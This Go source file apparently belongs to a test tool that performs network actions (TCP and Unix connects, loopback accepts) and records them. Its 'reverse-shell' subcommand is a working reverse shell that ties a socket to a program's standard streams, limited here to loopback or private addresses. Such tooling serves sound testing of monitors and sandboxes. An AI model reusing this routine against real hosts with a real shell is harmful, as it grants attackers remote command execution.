package main

import (
	"errors"
	"flag"
	"fmt"
	"math"
	"net/netip"
	"os"
	"os/exec"

	"golang.org/x/sys/unix"
)

// connectSeconds bounds a connection attempt.
const connectSeconds = 5

// socketAddress turns an address into what system calls take, with its family.
func socketAddress(to netip.AddrPort) (int, unix.Sockaddr) {
	if to.Addr().Unmap().Is4() {
		return unix.AF_INET, &unix.SockaddrInet4{Port: int(to.Port()), Addr: to.Addr().Unmap().As4()}
	}
	return unix.AF_INET6, &unix.SockaddrInet6{Port: int(to.Port()), Addr: to.Addr().As16()}
}

func addressText(sa unix.Sockaddr) string {
	switch sa := sa.(type) {
	case *unix.SockaddrInet4:
		return netip.AddrPortFrom(netip.AddrFrom4(sa.Addr), uint16(sa.Port)).String()
	case *unix.SockaddrInet6:
		return netip.AddrPortFrom(netip.AddrFrom16(sa.Addr), uint16(sa.Port)).String()
	}
	return ""
}

// dial connects by TCP with blocking calls of this thread.
func dial(r *report, to netip.AddrPort) (fd int, err error) {
	family, address := socketAddress(to)
	fd, err = unix.Socket(family, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return -1, fmt.Errorf("make socket: %w", err)
	}
	err = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &unix.Timeval{Sec: connectSeconds})
	if err == nil {
		err = unix.Connect(fd, address)
	}
	if err != nil {
		r.Flows = append(r.Flows, flow{Remote: to.String()})
		return -1, errors.Join(fmt.Errorf("connect %v: %w", to, err), unix.Close(fd))
	}
	r.count("connects")
	local, err := unix.Getsockname(fd)
	if err != nil {
		return -1, errors.Join(fmt.Errorf("name socket: %w", err), unix.Close(fd))
	}
	r.Flows = append(r.Flows, flow{addressText(local), to.String()})
	return fd, nil
}

func parseAddress(text string) (netip.AddrPort, error) {
	to, err := netip.ParseAddrPort(text)
	if err != nil {
		return netip.AddrPort{}, fmt.Errorf("%w: %w", errUsage, err)
	}
	return to, nil
}

func connect(_ *actor, r *report, args []string) error {
	flags := flag.NewFlagSet("connect", flag.ContinueOnError)
	if err := parse(flags, args, 1, 1); err != nil {
		return err
	}
	to, err := parseAddress(flags.Arg(0))
	if err != nil {
		return err
	}
	fd, err := dial(r, to)
	if err != nil {
		return err
	}
	return unix.Close(fd)
}

func connectUnix(_ *actor, r *report, args []string) error {
	flags := flag.NewFlagSet("connect-unix", flag.ContinueOnError)
	if err := parse(flags, args, 1, 1); err != nil {
		return err
	}
	path := flags.Arg(0)
	r.path(path)
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("make socket: %w", err)
	}
	if err := unix.Connect(fd, &unix.SockaddrUnix{Name: path}); err != nil {
		return errors.Join(fmt.Errorf("connect %s: %w", path, err), unix.Close(fd))
	}
	r.count("connects")
	return unix.Close(fd)
}

func accept(_ *actor, r *report, args []string) error {
	flags := flag.NewFlagSet("accept", flag.ContinueOnError)
	four, six := flags.Bool("4", false, ""), flags.Bool("6", false, "")
	port := flags.Uint("port", 0, "")
	if err := parse(flags, args, 0, 0); err != nil {
		return err
	}
	if *port > math.MaxUint16 {
		return fmt.Errorf("%w: port %d", errUsage, *port)
	}
	both := *four == *six
	if both || *four {
		loopback := netip.AddrFrom4([4]byte{127, 0, 0, 1})
		if err := acceptOn(r, netip.AddrPortFrom(loopback, uint16(*port))); err != nil {
			return err
		}
	}
	if both || *six {
		return acceptOn(r, netip.AddrPortFrom(netip.IPv6Loopback(), uint16(*port)))
	}
	return nil
}

// acceptOn is client and server in one thread: a connection to a listener is
// complete before it is accepted.
func acceptOn(r *report, at netip.AddrPort) (err error) {
	family, address := socketAddress(at)
	listener, err := unix.Socket(family, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("make socket: %w", err)
	}
	defer func() { err = errors.Join(err, unix.Close(listener)) }()
	if err := unix.SetsockoptInt(listener, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1); err != nil {
		return fmt.Errorf("share address %v: %w", at, err)
	}
	if err := unix.Bind(listener, address); err != nil {
		return fmt.Errorf("bind %v: %w", at, err)
	}
	if err := unix.Listen(listener, 1); err != nil {
		return fmt.Errorf("listen on %v: %w", at, err)
	}
	bound, err := unix.Getsockname(listener)
	if err != nil {
		return fmt.Errorf("name socket: %w", err)
	}
	to, err := netip.ParseAddrPort(addressText(bound))
	if err != nil {
		return err
	}
	client, err := dial(r, to)
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, unix.Close(client)) }()
	server, peer, err := unix.Accept4(listener, unix.SOCK_CLOEXEC)
	if err != nil {
		return fmt.Errorf("accept on %v: %w", to, err)
	}
	r.count("accepts")
	r.Flows = append(r.Flows, flow{to.String(), addressText(peer)})
	return unix.Close(server)
}

func reverseShell(a *actor, r *report, args []string) error {
	flags := flag.NewFlagSet("reverse-shell", flag.ContinueOnError)
	if err := parse(flags, args, 1, math.MaxInt); err != nil {
		return err
	}
	to, err := parseAddress(flags.Arg(0))
	if err != nil {
		return err
	}
	if !to.Addr().IsLoopback() && !to.Addr().IsPrivate() {
		return fmt.Errorf("%w: %v is neither loopback nor private", errUsage, to)
	}
	argv := flags.Args()[1:]
	if len(argv) == 0 {
		argv = []string{a.self, "noop"}
	}
	program, err := exec.LookPath(argv[0])
	if err != nil {
		return err
	}
	r.path(program)
	fd, err := dial(r, to)
	if err != nil {
		return err
	}
	return errors.Join(a.becomeOn(r, fd, program, argv), unix.Close(fd))
}

// becomeOn becomes a program that has a socket as stdin, stdout and stderr. The
// line has to be printed before: afterwards there is nowhere to print it. Only
// if the program cannot be executed a second line follows, with the reason.
func (a *actor) becomeOn(r *report, fd int, program string, argv []string) error {
	out, err := unix.FcntlInt(1, unix.F_DUPFD_CLOEXEC, 3)
	if err != nil {
		return fmt.Errorf("keep stdout: %w", err)
	}
	r.count("execs")
	if err := printLine(a.out, r.finish(nil)); err != nil {
		return err
	}
	for standard := range 3 {
		if err := unix.Dup3(fd, standard, 0); err != nil {
			return fmt.Errorf("put socket on descriptor %d: %w", standard, err)
		}
	}
	err = unix.Exec(program, argv, os.Environ())
	r.Counts["execs"]--
	return errors.Join(fmt.Errorf("execute %s: %w", program, err), unix.Dup3(out, 1, 0))
}
